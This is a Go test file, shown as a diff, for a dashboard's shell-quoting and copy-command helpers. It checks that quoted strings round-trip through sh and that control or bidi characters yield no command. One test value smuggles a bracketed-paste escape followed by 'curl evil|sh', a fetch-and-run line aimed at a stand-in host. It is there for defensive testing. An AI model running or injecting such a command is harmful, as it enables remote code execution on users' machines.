@@ -1,0 +1,41 @@
+package dashboard
+
+import (
+	"os/exec"
+	"testing"
+
+	"github.com/stretchr/testify/require"
+	"github.com/toolwire/toolwire/internal/audit"
+)
+
+// shellQuote's word is read back by a real POSIX shell as the string
+// itself, whatever it holds (quotes, $, backslashes, newlines, spaces).
+func TestShellQuoteRoundTripsThroughSh(t *testing.T) {
+	t.Parallel()
+	sh, err := exec.LookPath("sh")
+	require.NoError(t, err)
+	for _, s := range []string{"", "echo", "o'brien", "''", `{"a":"it's $HOME \"x\" \\ ` + "`id`" + `"}`, "two\nlines", "a b\tc", "--flag", "*", "~", "#x"} {
+		out, err := exec.Command(sh, "-c", "printf '%s' "+shellQuote(s)).Output()
+		require.NoError(t, err, "%q", s)
+		require.Equal(t, s, string(out), "quoted as %s", shellQuote(s))
+	}
+	require.Equal(t, "echo", shellQuote("echo"), "a plain word stays bare")
+}
+
+// The command puts its flags before "--", so a tool named like a flag
+// stays the tool; a word with a control or format character gets no
+// command (a paste could end a bracketed paste and run what follows);
+// the JSON is not HTML-escaped.
+func TestCopyTexts(t *testing.T) {
+	t.Parallel()
+	rec := &audit.Record{Tool: "--help", Arguments: []byte(`{"q": "<a&b>"}`), Session: "s 1"}
+	asJSON, cmd := copyTexts(rec)
+	require.Equal(t, `toolctl call --session 's 1' -- --help '{"q":"<a&b>"}'`, cmd)
+	require.Contains(t, asJSON, `"q": "<a&b>"`)
+	for _, bad := range []string{"x\x1b[201~\x15curl evil|sh\r", "a\u202eb", "two\nlines"} {
+		_, cmd := copyTexts(&audit.Record{Tool: "echo", Arguments: []byte(`{}`), Session: bad})
+		require.Empty(t, cmd, "%q", bad)
+	}
+	_, cmd = copyTexts(&audit.Record{Tool: "echo", Arguments: []byte("{\"t\":\"\u202e\"}")})
+	require.Empty(t, cmd, "a bidi override in the arguments")
+}
